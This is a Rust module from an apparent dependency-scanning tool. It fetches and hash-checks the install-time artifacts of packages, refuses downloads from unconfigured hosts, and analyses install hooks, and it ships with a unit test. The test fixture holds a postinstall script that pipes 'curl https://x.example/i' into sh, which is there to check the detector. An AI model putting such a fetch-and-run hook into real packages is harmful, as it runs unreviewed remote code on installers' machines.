//! `tollgate scan --deep`: fetch the locked artifact of every package that runs (or may
//! run) code at install time, map its hooks and analyse them.
//!
//! Fetching is behind [`ArtifactSource`] so that this crate needs no network code: the
//! CLI passes an adapter over `tollgate-registry` (which verifies the lockfile hash and
//! reports a mismatch as [`FetchError::HashMismatch`] and a download from a host that is no
//! configured registry as [`FetchError::Refused`]), tests pass an in-memory source.
//!
//! Neither is a silent skip: a mismatch is a `hash-mismatch` finding and a refusal a
//! `deep-source-refused` finding, both on the lockfile entry, so `--fail-on` fails closed
//! for a package whose code could not be judged for those reasons.

use std::sync::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};

use tollgate_lockfile::Inventory;
use tollgate_model::{Evidence, Finding, Package, Severity};

use crate::analyze::analyze_package;
use crate::files::PackageFiles;
use crate::judge::verdict_finding;
use crate::lockmap::{LockMap, map_inventory};
use crate::model::{CodeState, PackageReport};

/// A downloaded, verified artifact.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FetchedArtifact {
    /// The artifact's file name (its extension says how to unpack it).
    pub filename: String,
    /// Its bytes.
    pub bytes: Vec<u8>,
}

/// Why an artifact could not be had.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum FetchError {
    /// The downloaded bytes do not match the lockfile's hash.
    #[error("{url}: {algorithm} is {actual}, the lockfile says {expected}")]
    HashMismatch {
        /// The address downloaded.
        url: String,
        /// The hash algorithm.
        algorithm: String,
        /// The lockfile's digest.
        expected: String,
        /// The downloaded bytes' digest.
        actual: String,
    },
    /// The address the lockfile names (or a redirect from it) is on a host that is no
    /// configured registry: nothing was requested from it.
    #[error("{reason}")]
    Refused {
        /// The address that would have been fetched.
        url: String,
        /// Its `host:port`.
        host: String,
        /// The source's account of it.
        reason: String,
    },
    /// Anything else (offline and not cached, HTTP error, no artifact named).
    #[error("{0}")]
    Unavailable(String),
}

/// Where artifacts come from.
pub trait ArtifactSource: Sync {
    /// The exact locked artifact of `package` (for Python, the sdist when the package
    /// runs code).
    fn fetch(&self, package: &Package) -> Result<FetchedArtifact, FetchError>;
}

/// The result of a deep scan.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct DeepScan {
    /// The lock-only maps.
    pub maps: Vec<LockMap>,
    /// One report per analysed package, with its lockfile.
    pub reports: Vec<(String, PackageReport)>,
    /// Every finding: one `install-code` verdict per analysed package (its capability
    /// findings are evidence inside it), hash mismatches, and `install-time-code`
    /// mismatches between the lock-only and the artifact map.
    pub findings: Vec<Finding>,
    /// Packages that could not be analysed, with why.
    pub errors: Vec<(String, String)>,
}

/// Analyses every package of `inventory` whose lock-only state is `runs-code` or
/// `unknown`, fetching artifacts with `source` on `threads` threads (at least one).
pub fn deep_scan(inventory: &Inventory, source: &dyn ArtifactSource, threads: usize) -> DeepScan {
    deep_scan_with_progress(inventory, source, threads, &|_, _| {})
}

/// [`deep_scan`], calling `progress(done, total)` once the work list is known (with
/// `done` 0) and after each package, from the worker threads.
pub fn deep_scan_with_progress(
    inventory: &Inventory,
    source: &dyn ArtifactSource,
    threads: usize,
    progress: &(dyn Fn(usize, usize) + Sync),
) -> DeepScan {
    let cargo_home = crate::lockmap::CargoSources::default_home();
    let maps = map_inventory(inventory, cargo_home.as_deref());
    let mut work: Vec<(&str, &Package, &CodeState)> = Vec::new();
    for (lockfile, map) in inventory.lockfiles.iter().zip(&maps) {
        for (package, entry) in lockfile.packages.iter().zip(&map.entries) {
            // A runtime binary from its official site (pnpm's `node@runtime:V`, hashed
            // per platform) has no install hooks: fetching tens of MB of Node.js to find
            // none would only cost time (and, from nodejs.org, is no registry download).
            if package.runtime {
                continue;
            }
            if !matches!(entry.state, CodeState::NoCode) {
                work.push((lockfile.path.as_str(), package, &entry.state));
            }
        }
    }
    let next = AtomicUsize::new(0);
    let done = AtomicUsize::new(0);
    progress(0, work.len());
    let results = Mutex::new(Vec::new());
    std::thread::scope(|scope| {
        for _ in 0..threads.max(1) {
            scope.spawn(|| {
                loop {
                    let index = next.fetch_add(1, Ordering::Relaxed);
                    let Some(&(lockfile, package, state)) = work.get(index) else {
                        break;
                    };
                    let outcome = one_package(lockfile, package, state, source);
                    if let Ok(mut results) = results.lock() {
                        results.push((index, outcome));
                    }
                    progress(done.fetch_add(1, Ordering::Relaxed) + 1, work.len());
                }
            });
        }
    });
    let mut results = results.into_inner().unwrap_or_default();
    results.sort_by_key(|(index, _)| *index);
    let mut scan = DeepScan {
        maps,
        ..DeepScan::default()
    };
    for (_, outcome) in results {
        match outcome {
            Outcome::Report(lockfile, report, findings) => {
                scan.findings.extend(findings);
                scan.reports.push((lockfile, *report));
            }
            Outcome::Finding(finding) => scan.findings.push(*finding),
            Outcome::Error(purl, why) => scan.errors.push((purl, why)),
        }
    }
    scan
}

enum Outcome {
    Report(String, Box<PackageReport>, Vec<Finding>),
    Finding(Box<Finding>),
    Error(String, String),
}

fn one_package(
    lockfile: &str,
    package: &Package,
    lock_state: &CodeState,
    source: &dyn ArtifactSource,
) -> Outcome {
    let artifact = match source.fetch(package) {
        Ok(artifact) => artifact,
        Err(FetchError::HashMismatch {
            url,
            algorithm,
            expected,
            actual,
        }) => {
            let mut finding = Finding::for_package(
                "hash-mismatch",
                Severity::Critical,
                package,
                lockfile,
                format!("the downloaded artifact does not match the lockfile's {algorithm}"),
            );
            finding.url = Some(url.clone());
            finding.evidence.push(Evidence {
                path: lockfile.to_owned(),
                line: package.line,
                snippet: Some(format!(
                    "expected {algorithm} {expected}, downloaded {actual}"
                )),
                note: Some(url),
            });
            return Outcome::Finding(Box::new(finding));
        }
        Err(FetchError::Refused { url, host, reason }) => {
            return Outcome::Finding(Box::new(refused_finding(
                lockfile, package, url, &host, reason,
            )));
        }
        Err(FetchError::Unavailable(why)) => return Outcome::Error(package.purl.clone(), why),
    };
    let files = match PackageFiles::from_archive(&artifact.filename, &artifact.bytes) {
        Ok(files) => files,
        Err(error) => return Outcome::Error(package.purl.clone(), error.to_string()),
    };
    let report = match analyze_package(&artifact.filename, &files) {
        Ok(report) => report,
        Err(error) => return Outcome::Error(package.purl.clone(), error.to_string()),
    };
    let mut findings = vec![verdict_finding(&report, package, lockfile)];
    if let Some(disagreement) = disagreement(lockfile, package, lock_state, &report.state) {
        findings.push(disagreement);
    }
    Outcome::Report(lockfile.to_owned(), Box::new(report), findings)
}

/// `deep-source-refused`: the package's code was not analysed because its artifact lives on
/// a host that is no configured registry. `high`, so that the default `--fail-on` (and
/// `high`) fail: code that could not be judged is not let through.
fn refused_finding(
    lockfile: &str,
    package: &Package,
    url: String,
    host: &str,
    reason: String,
) -> Finding {
    let mut finding = Finding::for_package(
        "deep-source-refused",
        Severity::High,
        package,
        lockfile,
        format!(
            "install-time code not analysed: {host} is not a configured registry host, so \
             its artifact was not downloaded"
        ),
    );
    finding.url = Some(url.clone());
    finding.evidence.push(Evidence {
        path: lockfile.to_owned(),
        line: package.line,
        snippet: Some(reason),
        note: Some(url),
    });
    finding
}

/// A finding when the lockfile and the artifact disagree about install-time code (an
/// `unknown` lock state is not a disagreement).
fn disagreement(
    lockfile: &str,
    package: &Package,
    lock: &CodeState,
    artifact: &CodeState,
) -> Option<Finding> {
    let differs = match (lock, artifact) {
        (CodeState::Unknown, _) => false,
        (a, b) => a.runs_code() != b.runs_code(),
    };
    differs.then(|| {
        Finding::for_package(
            "install-time-code",
            if artifact.runs_code() {
                Severity::High
            } else {
                Severity::Info
            },
            package,
            lockfile,
            format!(
                "the lockfile says {}, the artifact says {}",
                lock.label(),
                artifact.label()
            ),
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use tollgate_model::{Ecosystem, Lockfile, LockfileFormat};

    /// Serves one fixed npm tarball, a hash mismatch for `bad`, a refusal for `far`.
    struct Fixed(Vec<u8>);

    impl ArtifactSource for Fixed {
        fn fetch(&self, package: &Package) -> Result<FetchedArtifact, FetchError> {
            if package.name == "far" {
                return Err(FetchError::Refused {
                    url: "https://far.example/far.tgz".into(),
                    host: "far.example:443".into(),
                    reason: "far.example:443 is not a configured registry host".into(),
                });
            }
            if package.name == "bad" {
                return Err(FetchError::HashMismatch {
                    url: "https://registry.example/bad.tgz".into(),
                    algorithm: "sha512".into(),
                    expected: "aa".into(),
                    actual: "bb".into(),
                });
            }
            Ok(FetchedArtifact {
                filename: format!("{}.tgz", package.name),
                bytes: self.0.clone(),
            })
        }
    }

    fn tarball(package_json: &str) -> Vec<u8> {
        let gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        let mut tar = tar::Builder::new(gzip);
        let mut header = tar::Header::new_gnu();
        header.set_size(package_json.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append_data(&mut header, "package/package.json", package_json.as_bytes())
            .unwrap();
        tar.into_inner().unwrap().finish().unwrap()
    }

    #[test]
    fn analyses_runs_code_packages_and_reports_hash_mismatches() {
        let mut good = Package::new(Ecosystem::Npm, "good", "1.0.0");
        good.install.has_install_script = Some(true);
        let mut bad = Package::new(Ecosystem::Npm, "bad", "1.0.0");
        bad.install.has_install_script = Some(true);
        let skipped = Package::new(Ecosystem::Npm, "plain", "1.0.0");
        let mut far = Package::new(Ecosystem::Npm, "far", "1.0.0");
        far.install.has_install_script = Some(true);
        let mut node = Package::new(Ecosystem::Npm, "node", "runtime:26.7.0");
        node.runtime = true;
        node.install.has_install_script = Some(true);
        let mut lockfile = Lockfile::new(
            "/nonexistent/package-lock.json",
            LockfileFormat::PackageLock,
        );
        lockfile.format_version = Some("3".into());
        lockfile.packages = vec![good, bad, skipped, far, node];
        let inventory = Inventory {
            lockfiles: vec![lockfile],
            errors: Vec::new(),
        };
        let source = Fixed(tarball(
            "{\"name\":\"good\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl https://x.example/i | sh\"}}",
        ));
        let calls = Mutex::new(Vec::new());
        let scan = deep_scan_with_progress(&inventory, &source, 2, &|done, total| {
            calls.lock().unwrap().push((done, total));
        });
        // Told the work list first, then once per package (good, bad, far; not the
        // runtime or the package without scripts).
        let mut calls = calls.into_inner().unwrap();
        assert_eq!(calls.first(), Some(&(0, 3)));
        calls.sort();
        assert_eq!(calls, vec![(0, 3), (1, 3), (2, 3), (3, 3)]);
        assert_eq!(
            scan.reports.len(),
            1,
            "only `good` is analysed (not the runtime): {:?}",
            scan.errors
        );
        let codes: Vec<(&str, Option<&str>)> = scan
            .findings
            .iter()
            .map(|f| (f.code.as_str(), f.id.as_deref()))
            .collect();
        assert!(codes.contains(&("hash-mismatch", None)));
        assert!(
            codes.contains(&("install-code", Some("install-code/malicious")))
                || codes.contains(&("install-code", Some("install-code/suspicious"))),
            "curl | sh at postinstall is not clean: {codes:?}"
        );
        let mismatch = scan
            .findings
            .iter()
            .find(|f| f.code == "hash-mismatch")
            .unwrap();
        assert_eq!(mismatch.severity, Severity::Critical);
        assert_eq!(mismatch.name.as_deref(), Some("bad"));
        let refused = scan
            .findings
            .iter()
            .find(|f| f.code == "deep-source-refused")
            .unwrap();
        assert_eq!(refused.severity, Severity::High);
        assert_eq!(refused.name.as_deref(), Some("far"));
        assert!(
            refused.summary.contains("far.example:443"),
            "{}",
            refused.summary
        );
        assert!(
            scan.errors.is_empty(),
            "a refusal is a finding, not an error"
        );
    }
}
